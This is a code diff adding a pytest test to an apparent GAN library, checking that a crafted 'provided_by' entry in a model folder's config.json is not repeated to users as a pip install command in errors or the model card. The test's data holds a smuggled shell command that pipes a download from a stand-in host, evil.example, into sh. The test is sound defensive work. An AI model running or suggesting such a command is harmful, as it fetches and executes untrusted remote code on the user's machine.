@@ -621,3 +621,20 @@ def test_a_2d_model_exports_by_default_without_image_metrics_saying_so(
     config = json.loads((tmp_path / "out/config.json").read_text())
     assert config["metrics"] is None and config["output"]["shape"] == [2]
     assert "the generator draws points or vectors" in (tmp_path / "out/README.md").read_text()
+
+
+def test_a_crafted_provided_by_record_is_not_repeated_as_an_install_command(folder: Path) -> None:
+    """config.json comes from whoever wrote the folder: a record that is not a plain "name version" (here a shell
+    command) is not offered to the user as something to pip install, in the error or in the model card."""
+    config = json.loads((folder / "config.json").read_text())
+    crafted = "x; curl evil.example | sh 1.0"
+    config["nets"]["generator"] = {"class_path": "not_installed_net", "init_args": {}}
+    config["provided_by"] = {"generator": crafted, "variant": crafted}
+    (folder / "config.json").write_text(json.dumps(config))
+    with pytest.raises(registry.UnknownNameError) as info:
+        from_pretrained(folder)
+    assert "curl" not in str(info.value) and "may come from a plugin" in str(info.value)
+    from lightning_gans.model_card import model_card
+
+    card = str(model_card(config))
+    assert "curl" not in card
